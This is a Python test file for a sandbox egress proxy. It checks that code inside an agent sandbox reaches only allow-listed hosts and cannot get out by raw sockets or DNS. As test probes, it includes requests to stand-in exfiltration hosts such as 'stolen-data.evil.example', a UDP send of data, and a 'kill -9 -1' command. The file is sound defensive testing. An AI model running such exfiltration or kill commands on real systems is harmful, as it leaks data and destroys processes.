from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator

import pytest

from vime_agents.errors import ConfigError, SandboxNotReady
from vime_agents.sandbox import ExecResult, Sandbox, SandboxSpec
from vime_sandboxes import egress
from vime_sandboxes.local import LocalSandboxProvider

ENV = {name: url for name, url in egress.proxy_environment().items() if name.lower() != "no_proxy"}
FETCH = """\
import sys, urllib.error, urllib.request
for url in sys.argv[1:]:
    try: print(urllib.request.urlopen(url, timeout=30).read().decode())
    except urllib.error.HTTPError as error: print(error.code, error.read().decode().strip())
"""


@pytest.fixture
async def provider():
    made = LocalSandboxProvider()
    yield made
    await made.aclose()


@pytest.fixture
async def sandbox(provider: LocalSandboxProvider):
    return await provider.create(SandboxSpec(memory_mb=128))


@contextlib.asynccontextmanager
async def server(answer: bytes, seen: list[bytes]) -> AsyncIterator[int]:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        seen.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(answer) + answer)
        await writer.drain()
        writer.close()

    listening = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with listening:
        yield listening.sockets[0].getsockname()[1]


async def fetch(sandbox: Sandbox, *urls: str) -> ExecResult:
    return await sandbox.exec(["python3", "-IS", "-c", FETCH, *urls], env=ENV)


async def test_what_is_listed_is_reached_and_nothing_else(sandbox: Sandbox) -> None:
    seen: list[bytes] = []
    forbidden: list[bytes] = []
    async with server(b"hello" * 100_000, seen) as allowed, server(b"secret", forbidden) as other:
        way = await egress.start(
            sandbox, [f"127.0.0.1:{allowed}", f"localhost:{allowed}", f"localhost:{other}"]
        )
        result = await fetch(
            sandbox,
            f"http://127.0.0.1:{allowed}/a?b",
            f"http://localhost:{allowed}/",
            f"http://127.0.0.1:{other}/",
            f"http://localhost:{other}/",
            f"http://127.1:{allowed}/",
            "http://data.attacker.example/",
        )
        await way.aclose()
    lines = result.text.splitlines()
    assert lines[:2] == ["hello" * 100_000] * 2
    assert [line[:3] for line in lines[2:]] == ["403"] * 4
    assert f"127.0.0.1:{other} is not on the sandbox's allow-list" in lines[2]
    assert "which leads to" in lines[3]
    assert forbidden == []
    assert [head.split(b"\r\n")[0] for head in seen] == [b"GET /a?b HTTP/1.1", b"GET / HTTP/1.1"]


async def test_there_is_no_other_way_out(sandbox: Sandbox) -> None:
    seen: list[bytes] = []
    program = """\
import socket, sys
for address in (("127.0.0.1", int(sys.argv[1])), ("192.0.2.1", 80)):
    try: socket.create_connection(address, 2); print("reached", address)
    except OSError: pass
try: print(socket.getaddrinfo("data.attacker.example", 80))
except socket.gaierror: pass
dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: dns.sendto(b"data", ("192.0.2.1", 53)); print("sent")
except OSError: pass
"""
    async with server(b"x", seen) as port:
        await egress.start(sandbox, [f"127.0.0.1:{port}"])
        result = await sandbox.exec(["python3", "-IS", "-c", program, str(port)], env=ENV)
    assert result.ok
    assert result.stdout == b""
    assert seen == []


async def test_names_that_are_not_listed_are_never_looked_up(
    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []

    async def look_up(host: str) -> list[object]:
        asked.append(host)
        return []

    monkeypatch.setattr("vime_sandboxes.egress_proxy._look_up", look_up)
    await egress.start(sandbox, ["*.allowed.example"])
    result = await fetch(sandbox, "http://stolen-data.evil.example/", "http://a.allowed.example/")
    assert [line[:3] for line in result.text.splitlines()] == ["403", "403"]
    assert asked == ["a.allowed.example"]


async def test_a_tunnel_carries_bytes_both_ways(sandbox: Sandbox) -> None:
    async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while piece := await reader.read(1 << 16):
            writer.write(piece)
            await writer.drain()
        writer.close()

    program = """\
import socket, sys, threading
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(f"CONNECT 127.0.0.1:{sys.argv[1]} HTTP/1.1\\r\\n\\r\\n".encode())
assert s.recv(100).startswith(b"HTTP/1.1 200 ")
data = bytes(range(256)) * 20000
def send():
    s.sendall(data); s.shutdown(socket.SHUT_WR)
threading.Thread(target=send).start()
got = b""
while piece := s.recv(1 << 16): got += piece
print(got == data)
"""
    listening = await asyncio.start_server(echo, "127.0.0.1", 0)
    async with listening:
        port = listening.sockets[0].getsockname()[1]
        await egress.start(sandbox, [f"127.0.0.1:{port}"])
        results = await asyncio.gather(
            *(sandbox.exec(["python3", "-IS", "-c", program, str(port)]) for _ in range(3))
        )
    assert [r.stdout for r in results] == [b"True\n"] * 3


async def test_the_way_out_comes_back_after_the_inside_has_killed_it(sandbox: Sandbox) -> None:
    async with server(b"hello", []) as port:
        await egress.start(sandbox, [f"127.0.0.1:{port}"])
        await sandbox.exec(["sh", "-c", "kill -9 -1"])
        async with asyncio.timeout(30):
            while (await fetch(sandbox, f"http://127.0.0.1:{port}/")).stdout != b"hello\n":
                pass


async def test_a_taken_port_and_bad_entries_are_named(sandbox: Sandbox) -> None:
    with pytest.raises(ConfigError, match=r"'\*' is neither"):
        await egress.start(sandbox, ["*"])
    await egress.start(sandbox, ["pypi.org"])
    with pytest.raises(SandboxNotReady, match="Address already in use"):
        await egress.start(sandbox, ["pypi.org"])


async def test_garbage_is_answered_and_endless_heads_are_cut(sandbox: Sandbox) -> None:
    program = """\
import socket
for head in (b"hello\\r\\n\\r\\n", b"x" * 100000, b""):
    s = socket.create_connection(("127.0.0.1", 3128))
    try: s.sendall(head)
    except OSError: pass
    s.shutdown(socket.SHUT_WR)
    print(s.recv(24).decode())
"""
    await egress.start(sandbox, ["pypi.org"])
    result = await sandbox.exec(["python3", "-IS", "-c", program])
    assert result.text == "HTTP/1.1 400 Bad Request\n" * 3
